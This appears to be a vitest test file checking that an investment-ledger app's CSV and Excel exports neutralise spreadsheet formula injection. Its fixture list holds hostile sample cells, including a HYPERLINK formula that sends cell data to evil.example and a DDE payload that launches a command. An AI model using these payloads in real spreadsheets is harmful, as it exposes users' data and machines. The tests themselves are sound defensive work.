import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ledgerCsv, ledgerLines, ledgerXlsx } from '../../server/services/ledger/export';
import { preview } from '../../server/services/ledger/preview';
import { importReportCsv } from '../../server/services/ledger/report-csv';
import { problemListXlsx, problemTallyXlsx } from '../../server/services/problem-export';
import { problemTally } from '../../server/services/problem-tally';
import { listProblems } from '../../server/services/problems';
import { reportPeriod } from '../../server/services/review/report';
import { reportWorkbook } from '../../server/services/review/report-xlsx';
import { getUpload } from '../../server/services/ledger/uploads';
import { parseCsv } from '../../shared/domain/ledger/csv';
import { periodOf } from '../../shared/domain/review/period';
import { previewInput } from '../../shared/schemas/ledger';
import { callerFor } from '../helpers/caller';
import { createTestDb } from '../helpers/db';
import { makeProject, makeUnit, makeUser } from '../helpers/factories';
import { officeLedger, uploadLedger } from '../helpers/ledger-sheet';
import { NOW, TODAY } from '../helpers/time';

/** What Excel would run as a formula (OWASP CSV injection): text starting with = + - @ tab or CR. */
const LIVE = /^[=+\-@\t\r]/;
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\tTAB开头',
  '\r回车开头',
];

async function xlsxTexts(bytes: Buffer): Promise<{ texts: string[]; numbers: number[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  const numbers: number[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') texts.push(cell.value);
        if (typeof cell.value === 'number') numbers.push(cell.value);
      }),
    ),
  );
  return { texts, numbers };
}

function expectNeutralised(texts: string[]) {
  expect(texts.filter((t) => LIVE.test(t))).toEqual([]);
  expect(texts).toContain(`'${HOSTILE[0]}`);
}

describe('no export carries a live formula (issue 11)', () => {
  const db = createTestDb();
  const admin = makeUser(db, { role: 'admin' });
  const officer = makeUser(db, { role: 'staff' }); // owners are officers (issue 12)
  const api = callerFor(db, admin);
  const hostileProjects = HOSTILE.map((name, i) =>
    makeProject(db, {
      name,
      investor: i === 0 ? '@投资方' : `投资方${i}`,
      estimatedInvestment: 6000 + i,
      stage: 'introduced',
      by: admin,
      ownerAId: officer.id,
    }),
  );

  it('the ledger CSV: text neutralised, amounts still numbers', () => {
    const rows = parseCsv(ledgerCsv(ledgerLines(db, { scope: 'all' }, NOW)));
    expectNeutralised(rows.flat());
    expect(rows.flat()).toContain("'@投资方");
    const amountCol = rows[0]!.indexOf('总投资(万元)');
    expect(rows.slice(1).map((r) => r[amountCol])).toEqual(expect.arrayContaining(['6000', '6001', '6005']));
  });

  it('the ledger xlsx: text neutralised, amounts still numbers', async () => {
    const file = await ledgerXlsx(ledgerLines(db, { scope: 'all' }, NOW), { today: TODAY, filtered: false });
    const { texts, numbers } = await xlsxTexts(file);
    expectNeutralised(texts);
    expect(numbers).toEqual(expect.arrayContaining([6000, 6001, 6005]));
  });

  it('the weekly review xlsx', async () => {
    const file = await api.review.exportXlsx({ week: '2026-W48' });
    expectNeutralised((await xlsxTexts(Buffer.from(file.base64, 'base64'))).texts);
  });

  it('the monthly report xlsx (names in the rankings too)', async () => {
    makeUser(db, { role: 'staff', displayName: HOSTILE[0] });
    const file = await reportWorkbook(reportPeriod(db, periodOf('2026-11')!, NOW));
    const { texts, numbers } = await xlsxTexts(file);
    expectNeutralised(texts);
    expect(numbers).toContain(36015); // signed this month: 6000 + … + 6005
  });

  it('the major projects (挂图作战) xlsx', async () => {
    const file = await api.schedules.exportOverview({});
    const { texts, numbers } = await xlsxTexts(Buffer.from(file.base64, 'base64'));
    expectNeutralised(texts);
    expect(numbers).toContain(6000);
  });

  it('the problem list and its tally (xlsx)', async () => {
    const unit = makeUnit(db, HOSTILE[0]);
    await api.problems.create({
      projectId: hostileProjects[0]!.id,
      title: HOSTILE[0]!,
      detail: HOSTILE[1],
      unitId: unit.id,
      raisedDate: TODAY,
    });
    const list = await problemListXlsx(listProblems(db, {}, NOW), { today: TODAY, filtered: false });
    expectNeutralised((await xlsxTexts(list)).texts);
    const tally = await problemTallyXlsx(problemTally(db, { from: TODAY, to: TODAY }, NOW));
    const { texts, numbers } = await xlsxTexts(tally);
    expectNeutralised(texts);
    expect(numbers).toContain(1);
  });

  it('the import report CSV, and the neutralised ledger imports back to the original names', async () => {
    const bytes = await officeLedger({
      headers: ['项目名称', '投资方', '行业', '招商方式', '总投资（万元）', '招商责任人'],
      rows: [[`'${HOSTILE[0]}`, '@投资方', '数字', '楼宇招商', 7000, officer.displayName]],
    });
    const token = await uploadLedger(admin.id, bytes);
    const upload = getUpload(token, admin.id, NOW);
    await preview(db, upload, previewInput.parse({ token, sheet: 0, limit: 50 }), NOW, () => true);
    const rows = parseCsv(importReportCsv(upload) ?? '');
    expectNeutralised(rows.flat());
    // The quote the export put in front is taken off again: the line matches the existing project.
    expect(upload.report?.rows[0]).toMatchObject({ name: HOSTILE[0], investor: '@投资方' });
  });
});
